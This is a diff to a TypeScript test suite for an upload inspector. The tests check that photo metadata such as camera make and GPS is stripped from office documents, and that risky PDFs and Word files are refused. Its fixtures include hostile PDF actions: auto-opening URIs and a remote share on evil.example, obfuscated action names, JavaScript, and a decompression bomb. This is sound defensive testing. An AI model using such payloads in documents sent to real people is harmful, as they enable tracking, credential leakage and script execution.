@@ -2,6 +2,7 @@ import { deflateRawSync, deflateSync } from "node:zlib";
 import sharp from "sharp";
 import { describe, expect, it } from "vitest";
 import { inspectFile } from "./inspect";
+import { zipEntries } from "./zip";
 
 const WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
 
@@ -69,6 +70,42 @@ describe("documents of Word and Excel", () => {
     ["the same in other letters", word({ "word/_rels/document.xml.rels": Buffer.from(`\ufeff${relation("attachedTemplate", "https://evil.example/t.dotm")}`, "utf16le") })],
   ])("are refused with %s", async (_, file) => expect(await inspectFile(file)).toBe("fileRunning"));
 
+  it("lose what a camera wrote beside the pictures in them, and nothing else", async () => {
+    const exif = { IFD0: { Make: "PHONE-MAKER" }, IFD3: { GPSLatitudeRef: "N", GPSLatitude: "39/1 54/1 0/1" } };
+    const photo = sharp({ create: { width: 60, height: 40, channels: 3, background: "#a83" } }).withExif(exif).withMetadata({ orientation: 6 });
+    const [jpeg, progressive, png] = [await photo.clone().jpeg().toBuffer(), await photo.clone().jpeg({ progressive: true }).toBuffer(), await photo.clone().png().toBuffer()];
+    for (const picture of [jpeg, progressive, png]) expect(picture.includes("PHONE-MAKER")).toBe(true);
+    const behind = Buffer.concat([jpeg, jpeg]);
+    const parts = { "word/media/image1.jpeg": jpeg, "word/media/image2.png": png, "xl/media/image3.jpg": progressive, "word/media/图片4.dat": behind, "word/styles.xml": "<w:styles>样式</w:styles>" };
+    const found = await inspectFile(word(parts));
+    if (typeof found === "string") throw new Error(found);
+    expect(found.mediaType).toBe(WORD);
+    const bare = new Map<string, Buffer>();
+    for await (const { name, content } of zipEntries(found.bytes, { entries: 20, unpacked: 1_000_000 })) bare.set(name, content);
+    expect([...bare.keys()]).toEqual(["[Content_Types].xml", "word/document.xml", ...Object.keys(parts)]);
+    expect(bare.get("word/styles.xml")?.toString("utf8")).toBe(parts["word/styles.xml"]);
+    const points = (picture: Buffer) => sharp(picture).raw().toBuffer();
+    for (const [name, before] of [["word/media/image1.jpeg", jpeg], ["word/media/image2.png", png], ["xl/media/image3.jpg", progressive], ["word/media/图片4.dat", jpeg]] as const) {
+      const after = bare.get(name) ?? Buffer.alloc(0);
+      const facts = await sharp(after).metadata();
+      expect([name, facts.width, facts.height, facts.exif, facts.orientation, after.includes("PHONE-MAKER")]).toEqual([name, 60, 40, undefined, undefined, false]);
+      expect((await points(after)).equals(await points(before))).toBe(true);
+    }
+    // Looked at again it is what it is, and taken as it is.
+    expect(await inspectFile(found.bytes)).toEqual({ mediaType: WORD, bytes: found.bytes });
+  });
+
+  it("are refused where such data cannot be taken out of a picture, and where a picture is broken", async () => {
+    const picture = sharp({ create: { width: 60, height: 40, channels: 3, background: "#a83" } });
+    const telling = await picture.clone().withExif({ IFD0: { Make: "PHONE-MAKER" } }).webp().toBuffer();
+    expect(await inspectFile(word({ "word/media/image1.webp": telling }))).toBe("fileTelling");
+    const silent = word({ "word/media/image1.webp": await picture.clone().webp().toBuffer() });
+    expect(await inspectFile(silent)).toEqual({ mediaType: WORD, bytes: silent });
+    const heic = Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from("ftypheic"), Buffer.alloc(12)]);
+    expect(await inspectFile(word({ "word/media/image1.heic": heic }))).toBe("fileTelling");
+    expect(await inspectFile(word({ "word/media/image1.jpg": Buffer.from([0xff, 0xd8, 0xff, 0xe1, 0xff, 0xff, 1]) }))).toBe("fileDamaged");
+  });
+
   it("are refused when they unpack to more than a paper does, whatever size they tell", async () => {
     const bomb = word({ "word/media/a.xml": Buffer.alloc(101 * 1024 * 1024) }, { lie: 1000 });
     expect(bomb.length).toBeLessThan(1024 * 1024);
@@ -92,7 +129,25 @@ describe("a PDF", () => {
     expect(await inspectFile(plain)).toEqual({ mediaType: "application/pdf", bytes: plain });
   });
 
+  it("is taken with an address to follow, and with a place where it opens", async () => {
+    const link = "7 0 obj << /Subtype /Link /A << /S /URI /URI (https://www.beijing.gov.cn/) >> >> endobj\n";
+    for (const opening of ["/OpenAction [3 0 R /XYZ 0 792 0]", "/OpenAction << /S /GoTo /D [3 0 R /Fit] >>", "/OpenAction 5 0 R"]) {
+      const plain = pdf(`1 0 obj << /Type /Catalog ${opening} /Names 7 0 R >> endobj\n`, link, "5 0 obj << /S /GoTo /D [3 0 R /Fit] >> endobj\n");
+      expect(await inspectFile(plain)).toEqual({ mediaType: "application/pdf", bytes: plain });
+    }
+  });
+
   it.each<[string, Buffer]>([
+    ["an address that it opens by itself", pdf("1 0 obj << /OpenAction << /S /URI /URI (https://evil.example/seen) >> >> endobj")],
+    ["an address that it opens by itself, told elsewhere", pdf("1 0 obj << /OpenAction 15 0 R >> endobj\n15 0 obj << /S /URI /URI (https://evil.example) >> endobj")],
+    ["an address that it opens by itself, written otherwise", pdf("1 0 obj << /Open#41ction 15 0 R >> endobj\n15 0 obj << /S /U#52I >> endobj")],
+    ["an address in a packed list that it opens by itself", pdf("1 0 obj << /OpenAction 15 0 R >> endobj\n", packed("14 0 15 8 <</A 1>><< /S /URI >>", "/Type /ObjStm /N 2 /First 10 /Filter /FlateDecode"))],
+    ["an address in an open list that it opens by itself", pdf("1 0 obj << /OpenAction 15 0 R >> endobj\n", packed("", "/Type /ObjStm /N 1 /First 5", Buffer.from("15 0 << /S /URI >>")))],
+    ["an address that it opens after another step", pdf("1 0 obj << /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [4 0 R] >> >> endobj\n4 0 obj << /S /URI >> endobj")],
+    ["an address that one of its pages opens", pdf("3 0 obj << /Type /Page /AA << /O 4 0 R >> >> endobj\n4 0 obj << /S /URI /URI (https://evil.example) >> endobj")],
+    ["another file to open", pdf("1 0 obj << /A << /S /GoToR /F (//evil.example/share/a.pdf) /D [0 /Fit] >> >> endobj")],
+    ["a file within it to open", pdf("1 0 obj << /A << /S /GoToE /D [0 /Fit] /T << /R /C /N (a) >> >> >> endobj")],
+    ["data to be taken in", pdf("1 0 obj << /A << /S /ImportData /F (a.fdf) >> >> endobj")],
     ["a script", pdf("1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj")],
     ["a script written otherwise", pdf("1 0 obj << /S /J#61vaScr#69pt /JS 3 0 R >> endobj")],
     ["a script in a packed list", pdf(packed("1 0 << /S /JavaScript /JS (x) >>"))],
